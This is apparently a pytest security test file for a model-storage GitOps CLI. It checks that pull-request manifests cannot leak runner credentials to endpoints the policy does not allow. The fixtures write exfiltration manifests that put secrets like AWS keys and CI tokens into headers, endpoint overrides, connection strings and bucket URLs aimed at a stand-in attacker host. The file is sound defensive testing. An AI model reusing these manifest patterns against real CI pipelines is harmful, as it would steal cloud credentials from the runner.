"""#13.1: a manifest cannot send credentials, or any value of the environment, to a host the
storage policy (set outside the pull request) does not allow. Each test performs the attack
against a logging server on 127.0.0.1 through the real CLI and shows that the host receives
nothing at all, and that the command stops with exit 1 at the manifest line.
"""
from __future__ import annotations

import json

import pytest

from tests.storage.conftest import RUNNER_SECRETS
from tests.storage.servers import Recorder

pytestmark = pytest.mark.emulators

COMMANDS = [("validate",), ("compile", "--dry-run"), ("plan", "--target", "out"), ("sync", "--locked", "--target", "out")]
STRICT = {"TRITON_GITOPS_ALLOWED_ENDPOINTS": None, "TRITON_GITOPS_ALLOWED_ENV": None, "TRITON_GITOPS_POLICY": None}


def _runner_env(**extra) -> dict:
    return {**RUNNER_SECRETS, **STRICT, **extra}


def _attack(project, attacker, versions=None, targets=None, env=None, commands=COMMANDS):
    project.write(versions or {1: "src/model.onnx"}, targets={"out": {"url": "build/repo"}, **(targets or {})})
    outputs = []
    for command in commands:
        code, out, err = project.run(*command, env=_runner_env(**(env or {})))
        assert code == 1, (command, out, err)
        outputs.append(out + err)
    assert attacker.log == [], attacker.received()  # not one request, so nothing secret either
    assert not (project.folder / "build" / "repo").exists()
    return outputs


def test_http_source_with_secret_headers_sends_nothing(project):
    with Recorder() as attacker:
        options = {"headers": {"Authorization": "Bearer ${AWS_SECRET_ACCESS_KEY}",
                               "X-Token": "${ACTIONS_ID_TOKEN_REQUEST_TOKEN}", "X-Other": "${SECRET}"}}
        outputs = _attack(project, attacker, {1: {"source": f"{attacker.url}/model.onnx", "storage_options": options}})
    line = project.line_of("Authorization")
    for text in outputs:
        assert f"models.yaml:{line}:" in text and "source-http-credentials" in text
        assert "${AWS_SECRET_ACCESS_KEY} in the options of an http:// source" in text
        assert not any(secret in text for secret in RUNNER_SECRETS.values())


def test_http_source_is_refused_even_when_the_variable_is_allowed(project):
    with Recorder() as attacker:
        _attack(project, attacker, {1: {"source": f"{attacker.url}/model.onnx",
                                        "storage_options": {"headers": {"X": "${SECRET}"}}}},
                env={"TRITON_GITOPS_ALLOWED_ENV": "SECRET"}, commands=[("validate",), ("plan", "--target", "out")])


def test_s3_source_with_a_foreign_endpoint_gets_no_signed_request(project):
    with Recorder() as attacker:
        options = {"client_kwargs": {"endpoint_url": attacker.url, "region_name": "us-east-1"}}
        outputs = _attack(project, attacker, {1: {"source": "s3://bucket/model.onnx", "storage_options": options}})
    line = project.line_of("endpoint_url")
    for text in outputs:
        assert f"models.yaml:{line}:" in text and "source-endpoint" in text
        assert f"the runner's AWS credentials would go to {attacker.url}" in text
        assert f"TRITON_GITOPS_ALLOWED_ENDPOINTS={attacker.url}" in text


def test_gcs_source_with_a_foreign_endpoint_gets_no_bearer_token(project, tmp_path):
    with Recorder() as attacker:
        # The runner's Google credentials: an authorized-user file whose token endpoint is the
        # attacker too, so a refresh (the token) would be seen there as well.
        credentials = tmp_path / "adc.json"
        credentials.write_text(json.dumps({"type": "authorized_user", "client_id": "c", "client_secret": "s",
                                           "refresh_token": RUNNER_SECRETS["SECRET"],
                                           "token_uri": f"{attacker.url}/token"}))
        options = {"endpoint_url": attacker.url}
        outputs = _attack(project, attacker, {1: {"source": "gs://bucket/model.onnx", "storage_options": options}},
                          env={"GOOGLE_APPLICATION_CREDENTIALS": str(credentials)})
    for text in outputs:
        assert "the runner's Google credentials would go to" in text and "source-endpoint" in text


def test_target_with_a_foreign_endpoint_gets_nothing_in_plan_or_locked_sync(project):
    with Recorder() as attacker:
        evil = {"url": "s3://bucket/models", "storage_options": {
            "key": "${AWS_ACCESS_KEY_ID}", "secret": "${AWS_SECRET_ACCESS_KEY}",
            "client_kwargs": {"endpoint_url": attacker.url}}}
        outputs = _attack(project, attacker, targets={"evil": evil},
                          commands=[("validate",), ("plan", "--target", "evil"), ("sync", "--locked", "--target", "evil")])
    for text in outputs:
        assert "target-endpoint" in text and "target-env" in text
        assert "${AWS_SECRET_ACCESS_KEY} is not allowed by the storage policy" in text
        assert not any(secret in text for secret in RUNNER_SECRETS.values())


def test_azure_connection_string_pointing_elsewhere_is_refused(project):
    with Recorder() as attacker:
        evil = {"url": "az://container/models", "storage_options": {
            "connection_string": f"DefaultEndpointsProtocol=http;AccountName=a;AccountKey=${{SECRET}};"
                                 f"BlobEndpoint={attacker.url}/a;"}}
        outputs = _attack(project, attacker, targets={"evil": evil},
                          commands=[("validate",), ("plan", "--target", "evil")],
                          env={"TRITON_GITOPS_ALLOWED_ENV": "SECRET"})
    for text in outputs:
        assert f"would go to {attacker.url}" in text and "target-endpoint" in text


@pytest.mark.parametrize("url", ["s3://attacker-bucket/${AWS_SECRET_ACCESS_KEY}", "gs://${SECRET}/models"])
def test_a_variable_in_a_remote_target_url_is_not_expanded_unless_allowed(project, url):
    with Recorder() as attacker:
        outputs = _attack(project, attacker, targets={"evil": {"url": url}},
                          commands=[("validate",), ("plan", "--target", "evil")])
    for text in outputs:
        assert "target-env" in text and not any(secret in text for secret in RUNNER_SECRETS.values())


def test_an_allowed_endpoint_still_works(project, s3_emulator):
    bucket = s3_emulator.make_bucket()
    s3_emulator.fs().pipe(f"{bucket}/m/model.onnx", b"onnx from the store")
    source = {"source": f"s3://{bucket}/m/model.onnx", "storage_options": {
        "key": "${TG_KEY}", "secret": "${TG_SECRET}",
        "client_kwargs": {"endpoint_url": s3_emulator.endpoint, "region_name": "us-east-1"}}}
    project.write({1: source}, targets={"out": {"url": "build/repo"}})
    keys = {"TG_KEY": s3_emulator.key, "TG_SECRET": s3_emulator.secret}
    # Not allowed: refused at the line, before any request.
    code, out, err = project.run("validate", env=_runner_env(**keys))
    assert code == 1 and "source-endpoint" in out + err and "source-env" in out + err
    # Allowed by the workflow's policy (the environment, which a pull request does not set).
    allowed = {"TRITON_GITOPS_ALLOWED_ENDPOINTS": s3_emulator.endpoint, "TRITON_GITOPS_ALLOWED_ENV": "TG_KEY TG_SECRET"}
    code, out, err = project.run("sync", "--target", "out", env=_runner_env(**keys, **allowed))
    assert code == 0, out + err
    assert (project.folder / "build" / "repo" / "m" / "1" / "model.onnx").read_bytes() == b"onnx from the store"


def test_a_policy_file_from_the_base_branch_allows_an_endpoint(project, s3_emulator):
    """The policy read with `git show` from a commit: the work tree's copy (which a PR edits) is not it."""
    import subprocess

    bucket = s3_emulator.make_bucket()
    s3_emulator.fs().pipe(f"{bucket}/m/model.onnx", b"onnx from the store")
    policy = project.folder / "policy.yaml"
    policy.write_text(f"allowed_endpoints: [{s3_emulator.endpoint}]\nallowed_env: [TG_KEY, TG_SECRET]\n")
    git = ["git", "-C", str(project.folder), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "add", "policy.yaml"], check=True)
    subprocess.run([*git, "commit", "-qm", "policy"], check=True)
    policy.write_text("allowed_endpoints: [127.0.0.1]\nallowed_env: ['*']\n")  # the PR's edit: not read
    source = {"source": f"s3://{bucket}/m/model.onnx", "storage_options": {
        "key": "${TG_KEY}", "secret": "${TG_SECRET}",
        "client_kwargs": {"endpoint_url": s3_emulator.endpoint, "region_name": "us-east-1"}}}
    project.write({1: source, 2: {"source": "s3://b/x", "storage_options": {"endpoint_url": "http://127.0.0.1:9"}}})
    env = _runner_env(TG_KEY=s3_emulator.key, TG_SECRET=s3_emulator.secret, TRITON_GITOPS_POLICY="git:HEAD:policy.yaml")
    code, out, err = project.run("validate", env=env)
    assert code == 1 and out.count("source-endpoint") == 1 and "http://127.0.0.1:9" in out, out + err
    project.write({1: source})
    code, out, err = project.run("validate", env=env)
    assert code == 0, out + err


def test_locked_sync_refuses_an_unlocked_source_before_any_request(project):
    """A PR that points a version at another (even allowed) host without a reviewed models.lock
    change: `sync --locked` stops before asking the source or the target anything."""
    project.write({1: "src/model.onnx"}, targets={"out": {"url": "build/repo"}})
    assert project.run("lock", env=_runner_env())[0] == 0
    with Recorder() as source_host, Recorder() as target_host:
        options = {"client_kwargs": {"endpoint_url": source_host.url, "region_name": "us-east-1"}}
        target = {"url": "s3://bucket/models", "storage_options": {
            "client_kwargs": {"endpoint_url": target_host.url, "region_name": "us-east-1"}}}
        project.write({1: {"source": "s3://bucket/model.onnx", "storage_options": options}},
                      targets={"out": {"url": "build/repo"}, "t": target})
        allowed = {"TRITON_GITOPS_ALLOWED_ENDPOINTS": f"{source_host.url} {target_host.url}"}
        code, out, err = project.run("sync", "--locked", "--target", "t", env=_runner_env(**allowed))
        assert code == 1, out + err
        assert "lock-mismatch" in out + err and "its source is not read" in out + err
        assert source_host.log == [] and target_host.log == [], source_host.received() + target_host.received()
